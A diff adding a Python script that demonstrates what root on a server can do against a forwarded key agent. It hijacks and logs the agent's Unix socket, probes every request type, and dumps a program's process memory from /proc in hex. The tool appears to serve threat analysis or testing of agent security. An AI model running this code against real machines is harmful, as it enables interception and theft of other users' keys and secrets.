@@ -1,0 +1,82 @@
+"""What root of a server tries in order to get hold of a key that is in an agent somewhere else. It runs at the server.
+
+python what_root_sees.py hear SOCKET FILE   write down what goes through the socket of an agent, from now on
+python what_root_sees.py ask SOCKET BLOB    send every request that there can be; print what is answered, in hex
+python what_root_sees.py look PROGRAM       print the memory of all processes of a program, in hex
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import re
+import socket
+import sys
+import threading
+from pathlib import Path
+
+_LAST = {8, 9, 18, 19, 22}
+"""Requests after which an agent has nothing, or is locked."""
+
+
+def hear(place: str, file: str) -> None:
+    """Take the place of a socket, and carry everything on to it."""
+    real = f"{place}.real"
+    os.rename(place, real)  # noqa: PTH104
+    with socket.socket(socket.AF_UNIX) as listener, Path(file).open("wb", buffering=0) as heard:
+        listener.bind(place)
+        listener.listen()
+        print("hears", flush=True)
+
+        def carry(source: socket.socket, target: socket.socket) -> None:
+            while data := source.recv(65_536):
+                heard.write(data)
+                target.sendall(data)
+            target.shutdown(socket.SHUT_WR)
+
+        while True:
+            near, _ = listener.accept()
+            far = socket.socket(socket.AF_UNIX)
+            far.connect(real)
+            for pair in ((near, far), (far, near)):
+                threading.Thread(target=carry, args=pair, daemon=True).start()
+
+
+def ask(place: str, blob: str) -> None:
+    """Send all 256 requests: without anything, with the public key, and with the key, a text to sign and flags."""
+    key = bytes.fromhex(blob)
+    word = len(key).to_bytes(4, "big") + key
+    for kind in sorted(range(256), key=lambda kind: (kind in _LAST, kind)):
+        for body in (b"", word, word + b"\0\0\0\1x" + bytes(4)):
+            answer = b""
+            # It hangs up on what it does not understand.
+            with socket.socket(socket.AF_UNIX) as agent, contextlib.suppress(ConnectionError):
+                agent.connect(place)
+                agent.sendall((1 + len(body)).to_bytes(4, "big") + bytes([kind]) + body)
+                size = int.from_bytes(agent.recv(4, socket.MSG_WAITALL), "big")
+                answer = agent.recv(size, socket.MSG_WAITALL)
+            print(answer.hex())
+
+
+def look(program: str) -> None:
+    """Read what processes have in their memory."""
+    for process in Path("/proc").glob("[0-9]*"):
+        if (process / "comm").read_text() != f"{program}\n":
+            continue
+        with (process / "mem").open("rb", buffering=0) as memory:
+            for line in (process / "maps").read_text().splitlines():
+                match = re.match(r"(\w+)-(\w+) rw.. .*?(?!\[v)\S*$", line)
+                if match:
+                    first, last = (int(number, 16) for number in match.groups())
+                    memory.seek(first)
+                    print(memory.read(last - first).hex())
+
+
+if __name__ == "__main__":
+    match sys.argv[1:]:
+        case ["hear", place, file]:
+            hear(place, file)
+        case ["ask", place, blob]:
+            ask(place, blob)
+        case ["look", program]:
+            look(program)
